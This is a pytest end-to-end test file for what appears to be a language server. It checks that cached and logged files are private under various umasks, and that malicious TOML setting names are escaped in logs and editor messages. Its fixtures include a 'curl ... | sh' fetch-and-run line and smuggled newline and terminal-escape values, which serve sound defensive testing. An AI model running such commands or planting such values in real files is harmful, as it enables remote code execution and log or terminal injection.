"""End to end: everything the server and `--check` keep on disk is the user's alone (folders
0700, files 0600) whatever the umask, and a value in a setting reaches the log and the editor
as data: one line, its control characters escaped."""

from __future__ import annotations

import re
import stat
from pathlib import Path

import pytest

from tests.cli.helpers import APP, answer, check_env, run_check
from tests.e2e.harness import (
    clean_env,
    cursor_of,
    eventually,
    inline_texts,
    open_file,
    running_server,
)
from tests.umask import umask

pytestmark = pytest.mark.attack  # the hostile-repository suite: `pytest -m attack`

DOCUMENT = "def add(a, b):\n    return █\n"
SHELL_LINE = "curl -s http://127.0.0.1:9/payload | sh"
LOG_LINE = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ [A-Z]+ \S+: ")


def loose(root: Path) -> list[str]:
    """What under `root` (itself included) is not 0700 (folders) or 0600 (files)."""
    found = []
    for path in [root, *root.rglob("*")]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        if mode != (0o700 if path.is_dir() else 0o600):
            found.append(f"{path} {oct(mode)}")
    return found


@pytest.mark.parametrize("mask", [0o022, 0o000])
async def test_everything_the_server_keeps_is_private(fake_llm, tmp_path: Path, mask: int):
    project = tmp_path / "project"
    project.mkdir()
    (project / "helpers.py").write_text("def double(x):\n    return 2 * x\n", encoding="utf-8")
    env = clean_env(tmp_path)
    cache, logs = Path(env["QWEN_LSP_CACHE_DIR"]), Path(env["QWEN_LSP_LOG_FILE"]).parent
    options = {"provider": "openai-compatible", "baseUrl": fake_llm.openai_base_url}
    fake_llm.reply("a + b")
    with umask(mask):
        async with running_server(project, env, init_options=options) as client:
            text, position = cursor_of(DOCUMENT)
            uri = open_file(client, project / "ops.py", "python", text)
            assert await inline_texts(client, uri, position) == ["a + b"]
            # while it runs: SQLite's side files (-wal, -shm) are there too
            assert await eventually(lambda: (cache / "prompt-modes.json").exists())
            assert await eventually(lambda: (cache / "answers" / "cache.db-wal").exists())
            assert loose(cache) == [] and loose(logs) == []
    kept = {p.relative_to(cache).as_posix() for p in cache.rglob("*")}
    assert {"answers", "answers/cache.db", "spend.db", "prompt-modes.json", "index"} <= kept
    assert any(name.startswith("index/project-") for name in kept), kept
    assert (logs / "qwen-lsp.log").stat().st_size > 0
    assert loose(cache) == [] and loose(logs) == []


@pytest.mark.parametrize("mask", [0o022, 0o000])
def test_everything_check_keeps_is_private(fake_llm, tmp_path: Path, mask: int):
    project = tmp_path / "proj"
    project.mkdir()
    (project / "app.py").write_text(APP, encoding="utf-8")
    cache = tmp_path / "fresh" / "cache"
    fake_llm.reply(answer())
    with umask(mask):
        result = run_check(
            project, fake_llm, env=check_env(tmp_path, fake_llm, QWEN_LSP_CACHE_DIR=str(cache))
        )
    assert result.code == 0, result.stderr
    assert {"answers/cache.db", "spend.db"} <= {
        p.relative_to(cache).as_posix() for p in cache.rglob("*")
    }
    assert loose(tmp_path / "fresh") == []


async def test_a_setting_that_holds_a_line_of_shell_is_logged_and_shown_as_data(
    fake_llm, tmp_path: Path
):
    project = tmp_path / "project"
    project.mkdir()
    # Unknown keys are told by name; TOML lets a quoted name hold any character.
    (project / ".qwen-lsp.toml").write_text(
        f'"x\\n{SHELL_LINE}\\n" = 1\n"title\\u001b]0;owned\\u0007\\u001b[2J" = 2\n',
        encoding="utf-8",
    )
    env = clean_env(tmp_path)
    options = {"provider": "openai-compatible", "baseUrl": fake_llm.openai_base_url}
    async with running_server(project, env, init_options=options) as client:
        assert await eventually(
            lambda: sum("unknown setting" in m.message for m in client.messages) >= 2
        )
        shown = [m.message for m in client.messages if "unknown setting" in m.message]
    assert f"unknown setting 'x\\n{SHELL_LINE}\\n' ignored" in shown[0]
    assert "unknown setting 'title\\x1b]0;owned\\x07\\x1b[2J' ignored" in shown[1]
    assert all("\x1b" not in message and "\n" not in message for message in shown)

    lines = Path(env["QWEN_LSP_LOG_FILE"]).read_text(encoding="utf-8").splitlines()
    assert any(SHELL_LINE in line for line in lines)
    assert all(LOG_LINE.match(line) or line.startswith("    | ") for line in lines), lines
    assert not any("\x1b" in line for line in lines)
